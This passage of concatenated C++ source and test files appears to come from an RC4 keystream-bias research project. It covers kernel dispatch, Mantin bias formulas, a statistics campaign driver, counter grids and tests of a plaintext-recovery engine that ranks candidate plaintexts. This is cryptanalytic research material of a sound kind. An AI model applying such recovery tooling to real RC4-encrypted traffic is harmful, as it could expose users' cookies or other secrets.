       AlwaysTrue, MakeScalarKernel},
      {"ssse3", "ssse3", kLane16Widths, 16, /*priority=*/10, Ssse3KernelCompiled,
       CpuHasSsse3, MakeSsse3Kernel},
      {"neon", "neon", kLane16Widths, 16, /*priority=*/10, NeonKernelCompiled,
       CpuHasNeon, MakeNeonKernel},
      {"avx2", "avx2", kLane32Widths, 32, /*priority=*/20, Avx2KernelCompiled,
       CpuHasAvx2, MakeAvx2Kernel},
      {"avx512", "avx512f,avx512bw,avx512vbmi", kLane64Widths, 64,
       /*priority=*/30, Avx512KernelCompiled, CpuHasAvx512, MakeAvx512Kernel},
  };
  return kernels;
}

void WarnKernelFallbackOnce(std::string_view name) {
  static std::atomic<bool> warned{false};
  if (!warned.exchange(true)) {
    std::fprintf(stderr,
                 "rc4b: kernel '%.*s' is unknown or unsupported on this "
                 "CPU/build; falling back to scalar\n",
                 static_cast<int>(name.size()), name.data());
  }
}

// The PR-5 ResolveInterleave rounding was silent; say what happened, once.
void LogResolvedWidthOnce(const KernelChoice& choice) {
  if (choice.requested == 0 || choice.width == choice.requested) {
    return;
  }
  static std::atomic<bool> logged{false};
  if (!logged.exchange(true)) {
    std::fprintf(stderr,
                 "rc4b: interleave %zu resolved to %zu (kernel %.*s); record "
                 "both values when comparing bench trajectories\n",
                 choice.requested, choice.width,
                 static_cast<int>(choice.kernel->name.size()),
                 choice.kernel->name.data());
  }
}

// Width for `kernel` under an explicit request: the widest supported lane
// count not above the (PR-5 semantics) resolved request. Returns 0 when the
// kernel cannot run that narrow — the caller falls back to scalar, keeping
// an explicit --interleave authoritative over kernel preference.
size_t WidthForRequest(const KernelDesc& kernel, size_t target) {
  size_t width = 0;
  for (const size_t w : kernel.widths) {
    if (w <= target) {
      width = w;
    }
  }
  return width;
}

KernelChoice FinishChoice(const KernelDesc& kernel, size_t requested) {
  KernelChoice choice;
  choice.requested = requested;
  if (requested == 0) {
    choice.kernel = &kernel;
    choice.width = kernel.preferred_width;
    return choice;
  }
  const size_t target = ResolveInterleave(requested);
  const size_t width = WidthForRequest(kernel, target);
  if (width == 0) {
    choice.kernel = &ScalarKernelDesc();
    choice.width = target;
  } else {
    choice.kernel = &kernel;
    choice.width = width;
  }
  LogResolvedWidthOnce(choice);
  return choice;
}

const KernelDesc* HighestPriorityAvailable() {
  const KernelDesc* best = &ScalarKernelDesc();
  for (const KernelDesc& kernel : KernelRegistry()) {
    if (kernel.Available() && kernel.priority > best->priority) {
      best = &kernel;
    }
  }
  return best;
}

}  // namespace

bool KernelDesc::SupportsWidth(size_t width) const {
  for (const size_t w : widths) {
    if (w == width) {
      return true;
    }
  }
  return false;
}

std::span<const KernelDesc> KernelRegistry() { return Registry(); }

const KernelDesc* FindKernel(std::string_view name) {
  for (const KernelDesc& kernel : Registry()) {
    if (kernel.name == name) {
      return &kernel;
    }
  }
  return nullptr;
}

const KernelDesc& ScalarKernelDesc() { return Registry().front(); }

std::string CpuFeatureString() {
  std::string features;
  for (const KernelDesc& kernel : Registry()) {
    if (kernel.features.empty() || !kernel.cpu_supports()) {
      continue;
    }
    if (!features.empty()) {
      features.push_back(',');
    }
    features.append(kernel.features);
  }
  return features.empty() ? "baseline" : features;
}

KernelChoice ResolveKernelChoice(std::string_view kernel_name,
                                 size_t requested_interleave) {
  // Width 1 is always the scalar oracle: --interleave=1 stays the reference
  // path every bit-exactness comparison in the repo is anchored to.
  if (requested_interleave != 0 && ResolveInterleave(requested_interleave) == 1) {
    return KernelChoice{&ScalarKernelDesc(), 1, requested_interleave};
  }
  if (kernel_name.empty()) {
    if (const char* env = std::getenv("RC4B_KERNEL")) {
      kernel_name = env;
    }
  }
  if (!kernel_name.empty() && kernel_name != "auto") {
    const KernelDesc* kernel = FindKernel(kernel_name);
    if (kernel != nullptr && kernel->Available()) {
      return FinishChoice(*kernel, requested_interleave);
    }
    WarnKernelFallbackOnce(kernel_name);
    return FinishChoice(ScalarKernelDesc(), requested_interleave);
  }
  if (const auto cached = ValidCachedAutotuneChoice()) {
    const KernelDesc* kernel = FindKernel(cached->kernel);
    if (requested_interleave == 0) {
      return KernelChoice{kernel, cached->width, 0};
    }
    return FinishChoice(*kernel, requested_interleave);
  }
  return FinishChoice(*HighestPriorityAvailable(), requested_interleave);
}

}  // namespace rc4b
