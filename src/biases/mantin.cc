#include "src/biases/mantin.h"

#include <cmath>

namespace rc4b {

double AbsabRelativeBias(uint64_t gap) {
  return 0x1.0p-8 * std::exp((-4.0 - 8.0 * static_cast<double>(gap)) / 256.0);
}

double AbsabAlpha(uint64_t gap) {
  return 0x1.0p-16 * (1.0 + AbsabRelativeBias(gap));
}

double AbsabLogOdds(uint64_t gap) {
  const double alpha = AbsabAlpha(gap);
  const double other = (1.0 - alpha) / 65535.0;
  return std::log(alpha) - std::log(other);
}

}  // namespace rc4b
