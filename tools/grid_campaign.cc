// Fault-tolerant campaign driver: runs every shard of a manifest to
// completion against a pool of worker processes, then merges the results
// (docs/orchestrate.md). Workers hold lease files with heartbeat timestamps,
// failures retry under capped exponential backoff, and a shard that keeps
// failing is quarantined — the campaign degrades to a partial merge with a
// loud report instead of aborting.
//
//   tools/grid_plan --kind consecutive --keys 0x100000 --shards 8 --out c.manifest
//   tools/grid_campaign --manifest c.manifest --out c.grid --parallel 4
//
// Growing a finished campaign reruns only the new shards:
//
//   tools/grid_plan --extend true --keys 0x100000 --shards 8 --out c.manifest
//   tools/grid_campaign --manifest c.manifest --out c2.grid --incremental-from c.grid
#include <cstdio>
#include <string>

#include "src/common/flags.h"
#include "src/common/retry.h"
#include "src/orchestrate/scheduler.h"
#include "src/store/merge.h"

namespace rc4b {
namespace {

int Run(int argc, char** argv) {
  FlagSet flags(
      "Drives a whole manifest to completion with leased, checkpointed, "
      "retried worker processes, then merges the shard grids "
      "(docs/orchestrate.md). Exit codes: 0 campaign complete and merged; "
      "3 degraded — quarantined shards were excluded, a partial grid and a "
      "quarantine report were written; 75 retryable environment failure — "
      "rerun the same command to resume; 1 fatal (corrupt input, bad "
      "provenance, failed verification).");
  flags.Define("manifest", "grid.manifest", "manifest written by grid_plan")
      .Define("out", "", "merged grid output path (required unless --status true)")
      .Define("status", "false",
              "report per-shard progress from on-disk checkpoint/final "
              "provenance and exit (runs nothing)")
      .Define("incremental-from", "",
              "previous merged grid covering a prefix of the key range; "
              "shards it covers are skipped outright and the merge starts "
              "from its cells (use after grid_plan --extend true)")
      .Define("verify-against", "",
              "optional reference grid; fail unless the merge is "
              "bit-identical to it")
      .Define("parallel", "2", "concurrent worker processes")
      .Define("max-attempts", "4",
              "worker launches per shard before it is quarantined")
      .Define("base-delay-ms", "100", "retry backoff after the first failure")
      .Define("max-delay-ms", "5000", "retry backoff cap")
      .Define("lease-ttl-ms", "10000",
              "heartbeat staleness bound; a worker quieter than this is "
              "presumed dead and its shard is reassigned")
      .Define("poll-ms", "25", "scheduler reap/launch cadence")
      .Define("checkpoint-keys", "0x10000",
              "keys between checkpoint snapshots (also the heartbeat "
              "cadence; keep the per-step time well under the lease TTL)")
      .Define("workers", "1", "threads inside each worker process")
      .Define("interleave", "0",
              "RC4 streams per lockstep group (0 = auto; counts are "
              "bit-identical for any width)");
  if (!flags.Parse(argc, argv)) {
    return 0;
  }

  const std::string manifest_path = flags.GetString("manifest");
  store::Manifest manifest;
  if (IoStatus status = store::ReadManifest(manifest_path, &manifest);
      !status.ok()) {
    std::fprintf(stderr, "grid_campaign: %s\n", status.message().c_str());
    return ExitCodeForStatus(status);
  }

  if (flags.GetBool("status")) {
    const std::vector<uint64_t> progress =
        orchestrate::CampaignProgress(manifest, manifest_path);
    uint64_t total = 0;
    uint64_t done = 0;
    for (size_t i = 0; i < progress.size(); ++i) {
      const store::ShardEntry& shard = manifest.shards[i];
      const uint64_t keys = shard.key_end - shard.key_begin;
      total += keys;
      done += progress[i];
      std::printf("shard %zu: %llu / %llu keys -> %s\n", i,
                  static_cast<unsigned long long>(progress[i]),
                  static_cast<unsigned long long>(keys), shard.path.c_str());
    }
    std::printf("campaign: %llu / %llu keys complete\n",
                static_cast<unsigned long long>(done),
                static_cast<unsigned long long>(total));
    return kExitOk;
  }

  const std::string out = flags.GetString("out");
  if (out.empty()) {
    std::fprintf(stderr, "grid_campaign: --out is required\n");
    return kExitFatal;
  }

  orchestrate::CampaignOptions options;
  options.shard.workers = static_cast<unsigned>(flags.GetUint("workers"));
  options.shard.interleave = static_cast<size_t>(flags.GetUint("interleave"));
  options.shard.checkpoint_keys = flags.GetUint("checkpoint-keys");
  options.retry.max_attempts =
      static_cast<uint32_t>(flags.GetUint("max-attempts"));
  options.retry.base_delay_ms = flags.GetUint("base-delay-ms");
  options.retry.max_delay_ms = flags.GetUint("max-delay-ms");
  options.lease_ttl_ms = flags.GetUint("lease-ttl-ms");
  options.poll_ms = flags.GetUint("poll-ms");
  options.max_parallel = static_cast<uint32_t>(flags.GetUint("parallel"));

  store::MergeOptions merge_options;
  store::StoredGrid base;
  const std::string incremental_from = flags.GetString("incremental-from");
  if (!incremental_from.empty()) {
    if (IoStatus status = store::ReadGridFile(incremental_from, &base);
        !status.ok()) {
      std::fprintf(stderr, "grid_campaign: %s\n", status.message().c_str());
      return ExitCodeForStatus(status);
    }
    merge_options.base = &base;
    options.merged_through_key = base.meta.key_end;
  }

  orchestrate::CampaignScheduler scheduler(manifest, manifest_path, options);
  orchestrate::CampaignReport report;
  if (IoStatus status = scheduler.Run(&report); !status.ok()) {
    std::fprintf(stderr, "grid_campaign: %s\n", status.message().c_str());
    return ExitCodeForStatus(status);
  }
  std::fputs(report.Summary().c_str(), stdout);

  const bool degraded = !report.complete();
  merge_options.allow_missing = degraded;
  // A degraded campaign writes "<out>.partial" so an unattended script can
  // never mistake an incomplete grid for the real artifact.
  const std::string merged_path = degraded ? out + ".partial" : out;
  store::StoredGrid merged;
  store::MergeOutcome outcome;
  if (IoStatus status = store::MergeShardGridsEx(manifest, manifest_path,
                                                 merge_options, &merged,
                                                 &outcome);
      !status.ok()) {
    std::fprintf(stderr, "grid_campaign: merge failed: %s\n",
                 status.message().c_str());
    return ExitCodeForStatus(status);
  }

  const std::string reference = flags.GetString("verify-against");
  if (!degraded && !reference.empty()) {
    store::StoredGrid ref;
    if (IoStatus status = store::ReadGridFile(reference, &ref); !status.ok()) {
      std::fprintf(stderr, "grid_campaign: %s\n", status.message().c_str());
      return ExitCodeForStatus(status);
    }
    if (IoStatus status =
            store::CheckGridsEqual(ref, merged, reference, "merge");
        !status.ok()) {
      std::fprintf(stderr, "grid_campaign: verification failed: %s\n",
                   status.message().c_str());
      return kExitFatal;
    }
    std::printf("merge is bit-identical to %s\n", reference.c_str());
  }

  if (IoStatus status =
          store::WriteGridFileDurable(merged_path, merged.meta, merged.cells);
      !status.ok()) {
    std::fprintf(stderr, "grid_campaign: %s\n", status.message().c_str());
    return ExitCodeForStatus(status);
  }

  if (degraded) {
    // Loud report: which shards are missing from the partial grid and why.
    const std::string report_path = out + ".quarantine.txt";
    std::string text = report.Summary();
    for (const store::MergeOutcome::MissingShard& missing : outcome.missing) {
      text += "missing from merge: shard " + std::to_string(missing.index) +
              " (" + missing.path + "): " + missing.error + "\n";
    }
    if (IoStatus status = WriteFileAtomic(report_path, text); !status.ok()) {
      std::fprintf(stderr, "grid_campaign: %s\n", status.message().c_str());
      return ExitCodeForStatus(status);
    }
    std::fprintf(stderr,
                 "grid_campaign: DEGRADED — %zu shard(s) quarantined; "
                 "partial grid %s (%llu samples), report %s\n",
                 report.quarantined(), merged_path.c_str(),
                 static_cast<unsigned long long>(merged.meta.samples),
                 report_path.c_str());
    return kExitDegraded;
  }

  std::printf("wrote %s: %s grid, %zu shards merged (%zu from base), keys "
              "[%llu, %llu), %llu samples\n",
              merged_path.c_str(), store::GridKindName(merged.meta.kind),
              outcome.merged.size(), outcome.skipped.size(),
              static_cast<unsigned long long>(merged.meta.key_begin),
              static_cast<unsigned long long>(merged.meta.key_end),
              static_cast<unsigned long long>(merged.meta.samples));
  return kExitOk;
}

}  // namespace
}  // namespace rc4b

int main(int argc, char** argv) { return rc4b::Run(argc, argv); }
