// Counter grids for keystream statistics.
//
// Mirrors the paper's dataset-generation optimizations (Sect. 3.2): workers
// accumulate into 16-bit counters (cache friendly; safe for <= 2^15 keys per
// flush even under strong biases) and periodically flush into 64-bit merge
// grids. Grids are indexed (position, value) for single-byte statistics and
// (position, value1, value2) for digraph statistics.
#ifndef SRC_STATS_COUNTERS_H_
#define SRC_STATS_COUNTERS_H_

#include <cstddef>
#include <cstdint>
#include <new>
#include <span>
#include <vector>

namespace rc4b {

// Cache-line alignment for shard-local counter blocks: engine shards write
// their counters lock-free from one thread each, and aligning every shard's
// block to its own cache lines keeps false sharing out of the hot loop.
inline constexpr size_t kCacheLineBytes = 64;

template <typename T>
class CacheAlignedAllocator {
 public:
  using value_type = T;

  CacheAlignedAllocator() noexcept = default;
  template <typename U>
  CacheAlignedAllocator(const CacheAlignedAllocator<U>&) noexcept {}

  T* allocate(size_t n) {
    return static_cast<T*>(
        ::operator new(n * sizeof(T), std::align_val_t{kCacheLineBytes}));
  }
  void deallocate(T* p, size_t) noexcept {
    ::operator delete(p, std::align_val_t{kCacheLineBytes});
  }

  template <typename U>
  bool operator==(const CacheAlignedAllocator<U>&) const noexcept {
    return true;
  }
};

template <typename T>
using AlignedVector = std::vector<T, CacheAlignedAllocator<T>>;

// counts[pos * 256 + value] over `positions` keystream positions.
class SingleByteGrid {
 public:
  explicit SingleByteGrid(size_t positions)
      : positions_(positions), counts_(positions * 256, 0) {}

  void Add(size_t pos, uint8_t value, uint64_t n = 1) {
    counts_[pos * 256 + value] += n;
  }

  uint64_t Count(size_t pos, uint8_t value) const { return counts_[pos * 256 + value]; }

  // All 256 counts at `pos`.
  std::span<const uint64_t> Row(size_t pos) const {
    return std::span<const uint64_t>(counts_).subspan(pos * 256, 256);
  }

  size_t positions() const { return positions_; }
  uint64_t keys() const { return keys_; }
  void AddKeys(uint64_t n) { keys_ += n; }

  // Raw cell storage (pos-major) for worker-tile flushes.
  std::span<uint64_t> MutableCells() { return counts_; }
  // Read-only view of all cells (pos-major) — the grid store serializes this
  // block verbatim (src/store/grid_file.h).
  std::span<const uint64_t> Cells() const { return counts_; }

  // Merges another grid (e.g. a worker shard) into this one.
  void Merge(const SingleByteGrid& other);

  // Adds a shard's raw cell block (same pos-major layout) plus its key count.
  // The one-shot merge path used by engine accumulators.
  void MergeCells(std::span<const uint64_t> cells, uint64_t keys);
  void MergeCounts32(std::span<const uint32_t> local, uint64_t keys);

  // Exact equality of positions, key count and every cell (merge
  // bit-exactness checks).
  friend bool operator==(const SingleByteGrid& a, const SingleByteGrid& b);

  // Empirical probability estimate Pr[Z_pos = value].
  double Probability(size_t pos, uint8_t value) const {
    return static_cast<double>(Count(pos, value)) / static_cast<double>(keys_);
  }

 private:
  size_t positions_;
  AlignedVector<uint64_t> counts_;
  uint64_t keys_ = 0;
};

// counts[pos * 65536 + v1 * 256 + v2] for consecutive-byte (digraph)
// statistics: pair (Z_{pos+1}, Z_{pos+2}) in 1-based paper numbering.
class DigraphGrid {
 public:
  explicit DigraphGrid(size_t positions)
      : positions_(positions), counts_(positions * 65536, 0) {}

  void Add(size_t pos, uint8_t v1, uint8_t v2, uint64_t n = 1) {
    counts_[pos * 65536 + static_cast<size_t>(v1) * 256 + v2] += n;
  }

  uint64_t Count(size_t pos, uint8_t v1, uint8_t v2) const {
    return counts_[pos * 65536 + static_cast<size_t>(v1) * 256 + v2];
  }

  std::span<const uint64_t> Row(size_t pos) const {
    return std::span<const uint64_t>(counts_).subspan(pos * 65536, 65536);
  }

  size_t positions() const { return positions_; }
  uint64_t keys() const { return keys_; }
  void AddKeys(uint64_t n) { keys_ += n; }

  // Raw cell storage (pos-major) for worker-tile flushes.
  std::span<uint64_t> MutableCells() { return counts_; }
  // Read-only view of all cells (pos-major, see src/store/grid_file.h).
  std::span<const uint64_t> Cells() const { return counts_; }

  void Merge(const DigraphGrid& other);

  // Adds a shard's raw cell block plus its key count (engine merge path).
  void MergeCells(std::span<const uint64_t> cells, uint64_t keys);

  // Adds 32-bit worker-local counts into this grid.
  void MergeCounts32(std::span<const uint32_t> local, uint64_t keys);

  friend bool operator==(const DigraphGrid& a, const DigraphGrid& b);

  double Probability(size_t pos, uint8_t v1, uint8_t v2) const {
    return static_cast<double>(Count(pos, v1, v2)) / static_cast<double>(keys_);
  }

  // Marginal Pr[Z_{pos(first)} = v] obtained by summing the second byte,
  // i.e. formula (6) in the paper.
  double MarginalFirst(size_t pos, uint8_t v) const;
  double MarginalSecond(size_t pos, uint8_t v) const;

 private:
  size_t positions_;
  AlignedVector<uint64_t> counts_;
  uint64_t keys_ = 0;
};

// 16-bit worker-local tile that spills into a 64-bit grid. The worker may
// call Add() at most 2^16 - 1 times per cell between FlushInto() calls;
// dataset drivers pick their flush cadence from the largest per-cell
// probability they can encounter (see src/engine/accumulators.cc).
class WorkerTile {
 public:
  explicit WorkerTile(size_t cells) : counts_(cells, 0) {}

  void Add(size_t cell) { ++counts_[cell]; }

  // Hints the prefetcher at a cell that Add() will touch shortly. Counter
  // cells are data-dependent random accesses, so a short software-prefetch
  // pipeline hides most of their cache/TLB latency in the consume loops.
  void Prefetch(size_t cell) const { __builtin_prefetch(&counts_[cell], 1); }

  // Adds all counts into `out[cell]` and zeroes the tile. The 32-bit form is
  // for shard-local spill blocks (per-cell shard totals must stay < 2^32).
  void FlushInto(std::span<uint64_t> out);
  void FlushInto(std::span<uint32_t> out);

  size_t cells() const { return counts_.size(); }

 private:
  AlignedVector<uint16_t> counts_;
};

}  // namespace rc4b

#endif  // SRC_STATS_COUNTERS_H_
