#include "src/recovery/engine.h"

#include <gtest/gtest.h>

#include <vector>

#include "src/common/rng.h"
#include "src/core/likelihood.h"

namespace rc4b::recovery {
namespace {

SingleByteTables RandomTables(size_t length, uint64_t seed) {
  Xoshiro256 rng(seed);
  SingleByteTables tables(length, std::vector<double>(256));
  for (auto& row : tables) {
    for (double& cell : row) {
      cell = -rng.UnitDouble();
    }
  }
  return tables;
}

TEST(RecoveryEngineTest, EmptyTablesYieldEmptyResult) {
  const RecoveryEngine engine(RecoveryOptions{});
  const auto result =
      engine.RecoverSingle(SingleByteTables{}, [](const Bytes&) { return true; });
  EXPECT_FALSE(result.found);
  EXPECT_EQ(result.candidates_tried, 0u);
}

TEST(RecoveryEngineTest, SingleTraversalMatchesAlgorithm1Ordering) {
  // The engine's traversal must visit candidates in exactly Algorithm 1's
  // decreasing-likelihood order: collect them with a spy predicate and
  // compare against the materialized N-best list.
  const auto tables = RandomTables(3, 17);
  const size_t n = 64;
  RecoveryOptions options;
  options.max_candidates = n;
  const RecoveryEngine engine(std::move(options));

  std::vector<Bytes> visited;
  const auto result = engine.RecoverSingle(tables, [&](const Bytes& candidate) {
    visited.push_back(candidate);
    return false;
  });
  EXPECT_FALSE(result.found);
  EXPECT_EQ(result.candidates_tried, n);

  const auto expected = GenerateCandidatesSingle(tables, n);
  ASSERT_EQ(visited.size(), expected.size());
  for (size_t i = 0; i < n; ++i) {
    EXPECT_EQ(visited[i], expected[i].plaintext) << "candidate " << i;
  }
}

TEST(RecoveryEngineTest, SingleStopsAtFirstAcceptedCandidate) {
  const auto tables = RandomTables(2, 5);
  const auto expected = GenerateCandidatesSingle(tables, 8);
  RecoveryOptions options;
  options.max_candidates = 1 << 10;
  options.truth = expected[4].plaintext;
  const RecoveryEngine engine(std::move(options));

  uint64_t calls = 0;
  const auto result = engine.RecoverSingle(tables, [&](const Bytes&) {
    return ++calls == 5;  // accept the 5th candidate
  });
  ASSERT_TRUE(result.found);
  EXPECT_TRUE(result.correct);
  EXPECT_EQ(result.candidates_tried, 5u);
  EXPECT_EQ(result.plaintext, expected[4].plaintext);
  EXPECT_DOUBLE_EQ(result.log_likelihood, expected[4].log_likelihood);
}

TEST(RecoveryEngineTest, CorrectRequiresMatchingTruth) {
  const auto tables = RandomTables(2, 6);
  const auto expected = GenerateCandidatesSingle(tables, 2);
  RecoveryOptions options;
  options.max_candidates = 4;
  options.truth = expected[1].plaintext;  // truth is the runner-up
  const RecoveryEngine engine(std::move(options));
  const auto result =
      engine.RecoverSingle(tables, [](const Bytes&) { return true; });
  ASSERT_TRUE(result.found);
  EXPECT_EQ(result.plaintext, expected[0].plaintext);
  EXPECT_FALSE(result.correct);
}

TEST(RecoveryEngineTest, SingleExhaustsTheCandidateSpace) {
  // One position: exactly 256 candidates exist; a larger budget must stop at
  // exhaustion and report the true count tried.
  const auto tables = RandomTables(1, 9);
  RecoveryOptions options;
  options.max_candidates = 1 << 20;
  const RecoveryEngine engine(std::move(options));
  const auto result =
      engine.RecoverSingle(tables, [](const Bytes&) { return false; });
  EXPECT_FALSE(result.found);
  EXPECT_EQ(result.candidates_tried, 256u);
}

TEST(RecoveryEngineTest, DoubleTraversalMatchesAlgorithm2Ordering) {
  Xoshiro256 rng(23);
  DoubleByteTables transitions(4, std::vector<double>(65536));
  for (auto& table : transitions) {
    for (double& cell : table) {
      cell = -rng.UnitDouble();
    }
  }
  const std::vector<uint8_t> alphabet = {'a', 'b', 'c', 'd'};
  const PairBoundary boundary{'=', ';'};
  const size_t n = 32;
  RecoveryOptions options;
  options.max_candidates = n;
  const RecoveryEngine engine(std::move(options));

  std::vector<Bytes> visited;
  const auto result = engine.RecoverDouble(
      transitions, boundary, alphabet, [&](const Bytes& candidate) {
        visited.push_back(candidate);
        return false;
      });
  EXPECT_FALSE(result.found);
  EXPECT_EQ(result.candidates_tried, n);

  const auto expected = GenerateCandidatesDouble(transitions, boundary.m1,
                                                 boundary.m_last, n, alphabet);
  ASSERT_EQ(visited.size(), expected.size());
  for (size_t i = 0; i < n; ++i) {
    EXPECT_EQ(visited[i], expected[i].plaintext) << "candidate " << i;
  }
}

TEST(RecoveryEngineTest, DoubleRejectsDegenerateTables) {
  const RecoveryEngine engine(RecoveryOptions{});
  const auto result =
      engine.RecoverDouble(DoubleByteTables(1), PairBoundary{}, {},
                           [](const Bytes&) { return true; });
  EXPECT_FALSE(result.found);
  EXPECT_EQ(result.candidates_tried, 0u);
}

#ifdef NDEBUG
TEST(RecoveryEngineTest, SingleByteModelSourceRejectsShapeMismatch) {
  // Release-build hardening: a counts/model shape mismatch must disable the
  // source (empty tables) instead of reading out of bounds.
  SingleByteModelSource mismatched(
      std::vector<std::vector<uint64_t>>(4, std::vector<uint64_t>(256)),
      std::vector<std::vector<double>>(3, std::vector<double>(256)));
  EXPECT_EQ(mismatched.length(), 0u);
  EXPECT_TRUE(mismatched.Tables().empty());

  SingleByteModelSource short_row(
      std::vector<std::vector<uint64_t>>(1, std::vector<uint64_t>(255)),
      std::vector<std::vector<double>>(1, std::vector<double>(256)));
  EXPECT_TRUE(short_row.Tables().empty());
}
#endif

TEST(RecoveryEngineTest, SingleByteModelSourceMatchesFormula12) {
  // The adapter's tables must equal SingleByteLogLikelihood row by row.
  Xoshiro256 rng(31);
  std::vector<std::vector<uint64_t>> counts(2, std::vector<uint64_t>(256));
  std::vector<std::vector<double>> log_model(2, std::vector<double>(256));
  for (size_t r = 0; r < 2; ++r) {
    for (size_t c = 0; c < 256; ++c) {
      counts[r][c] = rng.Below(100);
      log_model[r][c] = -rng.UnitDouble();
    }
  }
  SingleByteModelSource source(counts, log_model);
  ASSERT_EQ(source.length(), 2u);
  const auto tables = source.Tables();
  ASSERT_EQ(tables.size(), 2u);
  for (size_t r = 0; r < 2; ++r) {
    EXPECT_EQ(tables[r], SingleByteLogLikelihood(counts[r], log_model[r]));
  }
}

}  // namespace
}  // namespace rc4b::recovery
