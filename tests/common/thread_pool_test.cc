#include "src/common/thread_pool.h"

#include <atomic>
#include <mutex>
#include <set>
#include <vector>

#include <gtest/gtest.h>

namespace rc4b {
namespace {

TEST(ThreadPoolTest, ParallelForRunsAllWorkers) {
  std::atomic<unsigned> count{0};
  ParallelFor(8, [&](unsigned) { ++count; });
  EXPECT_EQ(count.load(), 8u);
}

TEST(ThreadPoolTest, ParallelForSingleWorkerRunsInline) {
  unsigned ran = 0;
  ParallelFor(1, [&](unsigned w) {
    EXPECT_EQ(w, 0u);
    ++ran;
  });
  EXPECT_EQ(ran, 1u);
}

TEST(ThreadPoolTest, ChunksPartitionExactly) {
  const uint64_t total = 1000;
  std::mutex mutex;
  std::vector<std::pair<uint64_t, uint64_t>> ranges;
  ParallelChunks(total, 7, [&](unsigned, uint64_t begin, uint64_t end) {
    std::lock_guard<std::mutex> lock(mutex);
    ranges.emplace_back(begin, end);
  });
  std::sort(ranges.begin(), ranges.end());
  uint64_t expected_begin = 0;
  for (const auto& [begin, end] : ranges) {
    EXPECT_EQ(begin, expected_begin);
    EXPECT_LT(begin, end);
    expected_begin = end;
  }
  EXPECT_EQ(expected_begin, total);
}

TEST(ThreadPoolTest, ChunksWithFewerItemsThanWorkers) {
  std::atomic<uint64_t> covered{0};
  ParallelChunks(3, 16, [&](unsigned, uint64_t begin, uint64_t end) {
    covered += end - begin;
  });
  EXPECT_EQ(covered.load(), 3u);
}

TEST(ThreadPoolTest, ChunksZeroTotalRunsNothing) {
  std::atomic<int> calls{0};
  ParallelChunks(0, 4, [&](unsigned, uint64_t, uint64_t) { ++calls; });
  EXPECT_EQ(calls.load(), 0);
}

TEST(ThreadPoolTest, DefaultWorkerCountPositive) {
  EXPECT_GE(DefaultWorkerCount(), 1u);
}

}  // namespace
}  // namespace rc4b
