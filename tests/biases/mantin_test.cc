#include "src/biases/mantin.h"

#include <cmath>

#include <gtest/gtest.h>

namespace rc4b {
namespace {

TEST(MantinTest, AlphaAtGapZero) {
  // alpha(0) = 2^-16 (1 + 2^-8 e^{-4/256}).
  const double expected = 0x1.0p-16 * (1.0 + 0x1.0p-8 * std::exp(-4.0 / 256.0));
  EXPECT_DOUBLE_EQ(AbsabAlpha(0), expected);
}

TEST(MantinTest, BiasDecaysWithGap) {
  double prev = AbsabRelativeBias(0);
  for (uint64_t g = 1; g <= 256; g *= 2) {
    const double cur = AbsabRelativeBias(g);
    EXPECT_LT(cur, prev);
    EXPECT_GT(cur, 0.0);
    prev = cur;
  }
}

TEST(MantinTest, DecayRateMatchesFormula) {
  // Each +32 of gap multiplies the relative bias by e^{-1}.
  EXPECT_NEAR(AbsabRelativeBias(32) / AbsabRelativeBias(0), std::exp(-1.0), 1e-12);
  EXPECT_NEAR(AbsabRelativeBias(96) / AbsabRelativeBias(64), std::exp(-1.0), 1e-12);
}

TEST(MantinTest, AlphaAlwaysAboveUniform) {
  for (uint64_t g = 0; g <= 512; ++g) {
    EXPECT_GT(AbsabAlpha(g), 0x1.0p-16);
  }
}

TEST(MantinTest, LogOddsApproximatesRelativeBias) {
  // log(alpha / ((1-alpha)/65535)) ~ q - 2^-16 + alpha ~ q for small q.
  for (uint64_t g : {0ull, 16ull, 64ull, 128ull}) {
    const double q = AbsabRelativeBias(g);
    EXPECT_NEAR(AbsabLogOdds(g), q, q * 0.02 + 1e-7) << "g=" << g;
  }
}

TEST(MantinTest, LogOddsPositiveAndDecreasing) {
  double prev = AbsabLogOdds(0);
  for (uint64_t g = 1; g <= 128; ++g) {
    const double cur = AbsabLogOdds(g);
    EXPECT_GT(cur, 0.0);
    EXPECT_LT(cur, prev);
    prev = cur;
  }
}

}  // namespace
}  // namespace rc4b
