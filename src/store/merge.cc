#include "src/store/merge.h"

namespace rc4b::store {

IoStatus MergeShardGrids(const Manifest& manifest,
                         const std::string& manifest_path, StoredGrid* out) {
  if (IoStatus status = ValidateManifest(manifest, manifest_path);
      !status.ok()) {
    return status;
  }
  out->meta = manifest.grid;
  out->meta.samples = 0;
  out->cells.assign(manifest.grid.cell_count(), 0);
  bool first = true;
  uint64_t unanimous_interleave = 0;
  for (const ShardEntry& shard : manifest.shards) {
    const std::string path = ResolveManifestPath(manifest_path, shard.path);
    GridFileView view;
    if (IoStatus status = view.Open(path); !status.ok()) {
      return status;
    }
    const GridMeta& got = view.meta();
    if (IoStatus status = CheckSameDataset(manifest.grid, got, path);
        !status.ok()) {
      return status;
    }
    if (got.key_begin != shard.key_begin || got.key_end != shard.key_end) {
      return IoStatus::Fail(
          path + ": covers keys [" + std::to_string(got.key_begin) + ", " +
          std::to_string(got.key_end) + ") but the manifest assigns [" +
          std::to_string(shard.key_begin) + ", " +
          std::to_string(shard.key_end) + ")");
    }
    const auto cells = view.cells();
    for (size_t i = 0; i < cells.size(); ++i) {
      out->cells[i] += cells[i];
    }
    out->meta.samples += got.samples;
    if (first) {
      unanimous_interleave = got.interleave;
      first = false;
    } else if (unanimous_interleave != got.interleave) {
      unanimous_interleave = 0;
    }
  }
  out->meta.interleave = unanimous_interleave;
  return IoStatus::Ok();
}

IoStatus CheckGridsEqual(const StoredGrid& a, const StoredGrid& b,
                         const std::string& a_name, const std::string& b_name) {
  const std::string context = a_name + " vs " + b_name;
  if (IoStatus status = CheckSameDataset(a.meta, b.meta, context);
      !status.ok()) {
    return status;
  }
  if (a.meta.key_begin != b.meta.key_begin ||
      a.meta.key_end != b.meta.key_end) {
    return IoStatus::Fail(context + ": key ranges differ ([" +
                          std::to_string(a.meta.key_begin) + ", " +
                          std::to_string(a.meta.key_end) + ") vs [" +
                          std::to_string(b.meta.key_begin) + ", " +
                          std::to_string(b.meta.key_end) + "))");
  }
  if (a.meta.samples != b.meta.samples) {
    return IoStatus::Fail(context + ": sample counts differ (" +
                          std::to_string(a.meta.samples) + " vs " +
                          std::to_string(b.meta.samples) + ")");
  }
  if (a.cells.size() != b.cells.size()) {
    return IoStatus::Fail(context + ": cell counts differ");
  }
  for (size_t i = 0; i < a.cells.size(); ++i) {
    if (a.cells[i] != b.cells[i]) {
